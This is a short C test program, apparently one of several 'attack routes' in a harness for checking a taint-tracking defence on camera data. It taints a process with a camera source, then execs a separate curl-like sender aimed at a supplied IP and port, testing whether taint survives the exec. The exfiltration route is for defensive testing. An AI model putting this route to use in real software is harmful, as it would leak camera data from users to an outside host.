/* exec_helper.c - attack: a tainted process execs a separate curl-like program (not an app, never opened a camera) to do the sending. */
#include "attack.h"

#define ROUTE "exec_helper"

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: " ROUTE " CAMERA CURLISH A.B.C.D:PORT\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	fflush(stdout);
	/* A new image, a new exe identity: taint must follow the process, not the binary. */
	execl(argv[2], "curlish", ROUTE, argv[3], (char *)NULL);
	at_result(ROUTE, "error", "exec %s: %s", argv[2], at_errname(errno));
	return 1;
}
